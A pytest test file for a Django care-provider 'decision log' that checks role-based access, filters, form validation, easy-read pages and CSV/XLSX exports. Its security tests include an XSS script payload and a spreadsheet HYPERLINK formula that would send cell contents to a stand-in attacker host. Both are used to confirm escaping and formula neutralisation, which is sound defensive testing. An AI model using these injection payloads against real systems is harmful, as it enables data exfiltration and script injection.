"""The decision log's pages: who may see and record what, the filters, recording a decision
(every refusal keeps what was typed), one person's decisions in their own voice, exports that
never write a formula, and script shown as text."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from directsupport.audit.models import AuditEvent
from directsupport.coproduction.decisions.services import record_decision
from directsupport.coproduction.models import Decision, Level, ParticipantRole, Source, Topic
from directsupport.lib.decision_feed import Participant

from .decisions_fixtures import (
    _on_a_fixed_day,
    best_interests,
    dee_money_decision,
    dee_plan_decision,
    service_decision,
)

__all__ = [
    "_on_a_fixed_day",
    "best_interests",
    "dee_money_decision",
    "dee_plan_decision",
    "service_decision",
]

pytestmark = pytest.mark.django_db

LIST = reverse("coproduction:decision_list")
NEW = reverse("coproduction:decision_new")
CSV = reverse("coproduction:decision_export")
XLSX = reverse("coproduction:decision_export_xlsx")

SERVICE = "Preferred suppliers must offer flexible contracts"
MONEY = "Bank two weeks of Dee&#x27;s budget for a holiday"
PLAN = "Swimming goes into the Plan Book"
BEST = "A second worker for hospital appointments"
ALL = (SERVICE, MONEY, PLAN, BEST)


@pytest.fixture
def everything(service_decision, dee_money_decision, dee_plan_decision, best_interests, sister):
    return {
        "service": service_decision,
        "money": dee_money_decision,
        "plan": dee_plan_decision,
        "best": best_interests,
    }


@pytest.fixture
def persona(request: pytest.FixtureRequest, everything, neighbour, cousin) -> Any:
    return request.getfixturevalue


def detail(decision: Decision) -> str:
    return reverse("coproduction:decision_detail", args=[decision.pk])


def person_page(person: Any, tail: str = "") -> str:
    return reverse("coproduction:decisions_person", args=[person.pk]) + tail


# --- Who sees what -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "sees"),
    [
        ("manager", ALL),
        ("coordinator", ALL),
        ("finance", ALL),
        ("market_shaper", ALL),
        ("worker", (MONEY, PLAN, BEST)),
        ("person_user", (MONEY, PLAN, BEST)),
        ("sister_user", (MONEY, PLAN, BEST)),
        ("commissioner", (SERVICE, MONEY, BEST)),
        ("expert", (SERVICE,)),
        ("other_commissioner", ()),
        ("outsider", ()),
        ("neighbour_user", ()),
    ],
)
def test_each_role_sees_its_own_share_of_the_log(name, sees, persona, client_for, everything):
    response = client_for(persona(name)).get(LIST)
    assert response.status_code == 200
    page = response.content.decode()
    for title in ALL:
        assert (title in page) == (title in sees), title
    for key, decision in everything.items():
        status = client_for(persona(name)).get(detail(decision)).status_code
        wanted = {SERVICE: "service", MONEY: "money", PLAN: "plan", BEST: "best"}
        assert status == (200 if key in {wanted[t] for t in sees} else 404), (name, key)


def test_a_supplier_has_no_decision_log(supplier, client_for, everything):
    client = client_for(supplier)
    for url in (LIST, CSV, XLSX, NEW, detail(everything["service"])):
        assert client.get(url).status_code == 404, url


def test_the_best_interests_reason_shows_prominently(client_for, coordinator, everything):
    page = client_for(coordinator).get(detail(everything["best"])).content.decode()
    assert "Dee did not take part in this decision." in page
    assert "Best-interests decision: Dee was in hospital and could not be asked." in page
    listing = client_for(coordinator).get(LIST).content.decode()
    assert "Dee did not take part.</strong> Best-interests decision" in listing


def test_a_commissioner_reads_neither_the_family_names_nor_their_reason(
    client_for, commissioner, everything
):
    page = client_for(commissioner).get(detail(everything["best"])).content.decode()
    assert "Ngozi" not in page
    assert "in hospital" not in page
    assert "Family or friend:</strong> 1 person" in page
    assert "the provider keeps the reason" in page


def test_the_ladder_shows_as_words_and_steps(client_for, coordinator, everything):
    page = client_for(coordinator).get(LIST).content.decode()
    assert "Co-production: rung 7 of 7" in page
    assert page.count('<svg class="decision-rung__steps"') == 4
    assert "The ladder of co-production: what each rung means" in page
    assert "People are told what was decided. They had no say in it." in page


def test_reading_the_log_is_audited_per_person(client_for, coordinator, everything, dee):
    client_for(coordinator).get(LIST)
    assert (
        AuditEvent.objects.filter(
            actor=coordinator, person_id=dee.pk, action="view", summary="Decision log"
        ).count()
        == 1
    )


# --- Filters -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "shown"),
    [
        ({"topic": "money"}, (MONEY,)),
        ({"level": str(Level.CO_PRODUCTION)}, (SERVICE,)),
        ({"source": Source.RECORDED}, ALL),
        ({"source": Source.PLAN_BOOK}, ()),
        ({"date_from": "2026-09-01", "date_to": "2026-10-31"}, (SERVICE, PLAN)),
        ({"date_from": "2026-11-01"}, (MONEY,)),
    ],
)
def test_filters(query, shown, client_for, coordinator, everything):
    page = client_for(coordinator).get(LIST, query).content.decode()
    for title in ALL:
        assert (title in page) == (title in shown), (query, title)


def test_filter_by_person(client_for, coordinator, everything, dee):
    page = client_for(coordinator).get(LIST, {"person": dee.pk}).content.decode()
    assert PLAN in page and SERVICE not in page


def test_a_period_backwards_is_explained(client_for, coordinator, everything):
    page = (
        client_for(coordinator)
        .get(LIST, {"date_from": "2026-12-01", "date_to": "2026-01-01"})
        .content.decode()
    )
    assert "The last day must be on or after the first day" in page


def test_the_list_is_paginated(client_for, coordinator, provider, manager):
    for number in range(30):
        record_decision(
            organisation=provider,
            topic=Topic.SERVICE_MODEL,
            title=f"Decision number {number:02d}",
            reasons="Why not.",
            level=3,
            decided_on=dt.date(2026, 1, 1) + dt.timedelta(days=number),
            participants=[Participant(name="Helen Carter", role=ParticipantRole.STAFF)],
            person_took_part=True,
            actor=manager,
        )
    first = client_for(coordinator).get(LIST).content.decode()
    second = client_for(coordinator).get(LIST, {"page": 2}).content.decode()
    assert "Showing 1 to 25 of 30" in first
    assert "Decision number 29" in first and "Decision number 00" not in first
    assert "Decision number 00" in second


# --- Recording ---------------------------------------------------------------------------------


def service_form(**changes: str) -> dict[str, str]:
    data = {
        "about": "service",
        "title": "A new rate card from April",
        "reasons": "Costs rose by 6%.",
        "decided_on": "2026-12-01",
        "person_words": "",
        "level": "",
        "participant_1_name": "Jo Whitfield",
        "participant_1_role": "expert",
        "participant_2_name": "Helen Carter",
        "participant_2_role": "staff",
    }
    data.update(changes)
    return data


@pytest.mark.parametrize("name", ["manager", "coordinator", "market_shaper"])
def test_recorders_record_a_service_decision(name, persona, client_for):
    user = persona(name)
    client = client_for(user)
    assert client.get(NEW).status_code == 200
    response = client.post(NEW, service_form(person_words="Keep it simple."))

    decision = Decision.objects.get(title="A new rate card from April")
    assert response.status_code == 302
    assert response["Location"] == detail(decision)
    assert (decision.person, decision.topic, decision.level) == (
        None,
        Topic.SERVICE_MODEL,
        Level.CO_DESIGN,
    )
    assert decision.recorded_by == user
    assert [(p.name, p.role) for p in decision.participants.all()] == [
        ("Jo Whitfield", "expert"),
        ("Helen Carter", "staff"),
    ]


@pytest.mark.parametrize(
    ("name", "status"),
    [
        ("finance", 403),
        ("worker", 403),
        ("expert", 403),
        ("commissioner", 403),
        ("person_user", 403),
        ("sister_user", 403),
        ("supplier", 404),
    ],
)
def test_others_may_not_record(name, status, persona, client_for):
    client = client_for(persona(name))
    assert client.get(NEW).status_code == status
    assert client.post(NEW, service_form()).status_code == status
    assert not Decision.objects.filter(title="A new rate card from April").exists()


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"title": ""}, "Say what was decided"),
        ({"reasons": ""}, "Say why it was decided"),
        ({"decided_on": "2026-12-25"}, "The day it was decided cannot be in the future"),
        ({"decided_on": "someday"}, "Enter the day it was decided as a date"),
        (
            {
                "participant_1_name": "",
                "participant_1_role": "",
                "participant_2_name": "",
                "participant_2_role": "",
            },
            "Say who took part in the decision",
        ),
        ({"participant_2_role": ""}, "Choose the part Helen Carter took"),
        ({"participant_2_name": ""}, "Enter the name of who took this part"),
        ({"level": "9"}, "Choose a rung of the ladder from the list"),
    ],
)
def test_bad_input_is_explained_and_nothing_typed_is_lost(
    changes, message, client_for, coordinator, everything
):
    data = service_form(details="Typed with care", **changes)
    response = client_for(coordinator).post(NEW, data)

    assert response.status_code == 400
    page = response.content.decode()
    assert "There is a problem" in page
    assert message in page
    assert "Typed with care" in page
    if data["title"]:
        assert 'value="A new rate card from April"' in page
    assert Decision.objects.count() == 4


def test_a_decision_about_dee_without_her_needs_the_reason(client_for, coordinator, dee):
    form = service_form(
        about="person",
        person=str(dee.pk),
        topic="support",
        person_took_part="no",
        participant_1_name="Ngozi Okafor",
        participant_1_role="family",
    )
    response = client_for(coordinator).post(NEW, form)
    page = response.content.decode()
    assert response.status_code == 400
    assert "Say why Dee did not take part, for example a best-interests decision" in page
    assert 'value="Ngozi Okafor"' in page

    form["without_person_reason"] = "Best-interests decision: Dee was too unwell to be asked."
    assert client_for(coordinator).post(NEW, form).status_code == 302
    decision = Decision.objects.get()
    assert (decision.person, decision.person_took_part) == (dee, False)
    assert decision.level == Level.CONSULTATION


def test_a_decision_about_a_person_needs_who_and_what(client_for, coordinator):
    page = client_for(coordinator).post(NEW, service_form(about="person")).content.decode()
    assert "Choose who the decision is about" in page
    assert "Choose what part of their life the decision is about" in page
    assert "Say whether they took part" in page


def test_someone_the_user_may_not_see_cannot_be_chosen(client_for, coordinator, other_provider):
    from tests.factories import PersonFactory

    stranger = PersonFactory.create(organisation=other_provider)
    form = service_form(
        about="person", person=str(stranger.pk), topic="plan", person_took_part="yes"
    )
    page = client_for(coordinator).post(NEW, form).content.decode()
    assert "Choose someone from the list" in page
    assert Decision.objects.count() == 0


def test_script_in_any_text_shows_as_text(client_for, coordinator):
    script = "<script>alert('x')</script>"
    client_for(coordinator).post(
        NEW,
        service_form(
            title=f"Title {script}",
            reasons=f"Why {script}",
            person_words=f"Words {script}",
            participant_1_name=f"Jo {script}",
        ),
    )
    decision = Decision.objects.get()
    for url in (detail(decision), LIST):
        page = client_for(coordinator).get(url).content.decode()
        assert "<script>alert" not in page
        assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page


# --- One person's decisions --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "sees"),
    [
        ("coordinator", (MONEY, PLAN, BEST)),
        ("worker", (MONEY, PLAN, BEST)),
        ("sister_user", (MONEY, PLAN, BEST)),
        ("cousin_user", (MONEY, PLAN, BEST)),
        ("commissioner", (MONEY, BEST)),
    ],
)
def test_a_persons_decisions(name, sees, persona, client_for, dee):
    response = client_for(persona(name)).get(person_page(dee))
    assert response.status_code == 200
    page = response.content.decode()
    assert "Decisions about Dee" in page
    for title in ALL:
        assert (title in page) == (title in sees), title


@pytest.mark.parametrize(
    "name", ["neighbour_user", "supplier", "expert", "outsider", "other_commissioner"]
)
def test_others_get_not_found_on_a_persons_decisions(name, persona, client_for, dee):
    client = client_for(persona(name))
    assert client.get(person_page(dee)).status_code == 404
    assert client.get(person_page(dee, "new/")).status_code == 404


def test_dee_reads_her_decisions_in_easy_read(client_for, person_user, dee, everything):
    page = client_for(person_user).get(person_page(dee)).content.decode()
    assert '<body class="easy-read"' in page
    assert "Decisions about me" in page
    assert "I was there. So were: Priya Shah (staff)." in page
    assert "<strong>I was not there.</strong> Best-interests decision" in page
    assert "Who decided: Ngozi Okafor (family or friend), Helen Carter (staff)." in page


def test_dee_in_standard_format_reads_her_own_voice(client_for, person_user, dee, everything):
    dee.preferred_format = "standard"
    dee.save()
    page = client_for(person_user).get(person_page(dee)).content.decode()
    assert '<body class="easy-read"' not in page
    assert "The decisions made about your plan" in page


def test_recording_about_dee_from_her_page(client_for, coordinator, dee):
    url = person_page(dee, "new/")
    assert client_for(coordinator).get(url).status_code == 200
    form = service_form(topic="plan", person_took_part="yes")
    del form["about"]
    form["participant_3_name"] = "Dee Okafor"
    form["participant_3_role"] = "person"
    response = client_for(coordinator).post(url, form)
    assert response.status_code == 302
    assert Decision.objects.get().person == dee


@pytest.mark.parametrize("name", ["worker", "sister_user", "person_user", "commissioner"])
def test_readers_may_not_record_about_dee(name, persona, client_for, dee):
    client = client_for(persona(name))
    assert client.get(person_page(dee, "new/")).status_code == 403
    assert client.post(person_page(dee, "new/"), service_form()).status_code == 403


# --- Exports -----------------------------------------------------------------------------------


def test_the_csv_never_writes_a_formula(client_for, coordinator, provider, manager, everything):
    record_decision(
        organisation=provider,
        topic=Topic.SERVICE_MODEL,
        title='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        reasons="+1 for flexible contracts",
        level=3,
        decided_on=dt.date(2026, 12, 1),
        participants=[Participant(name="@Helen", role=ParticipantRole.STAFF)],
        person_took_part=True,
        actor=manager,
    )
    response = client_for(coordinator).get(CSV)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Decided on", "What was decided", "About"]
    evil = next(row for row in rows if "HYPERLINK" in row[1])
    assert evil[1].startswith("'=")
    assert evil[9].startswith("'+")
    assert evil[6] == "Staff: @Helen"
    assert len(rows) == 6
    assert AuditEvent.objects.filter(actor=coordinator, action="export").exists()


def test_the_xlsx_writes_text_as_text(client_for, coordinator, provider, manager):
    record_decision(
        organisation=provider,
        topic=Topic.SERVICE_MODEL,
        title="=1+1",
        reasons="-2",
        level=3,
        decided_on=dt.date(2026, 12, 1),
        participants=[Participant(name="Helen", role=ParticipantRole.STAFF)],
        person_took_part=True,
        actor=manager,
    )
    response = client_for(coordinator).get(XLSX, {"topic": "service_model"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    title = sheet.cell(row=2, column=2)
    assert title.data_type == "s"
    assert not str(title.value).startswith("=")


def test_the_export_follows_the_filters_and_access(client_for, expert, commissioner, everything):
    expert_rows = client_for(expert).get(CSV).content.decode("utf-8-sig")
    assert "Preferred suppliers must offer flexible contracts" in expert_rows
    assert "Dee" not in expert_rows
    council_rows = client_for(commissioner).get(CSV, {"topic": "money"}).content.decode("utf-8-sig")
    assert "Bank two weeks" in council_rows
    assert "flexible contracts" not in council_rows
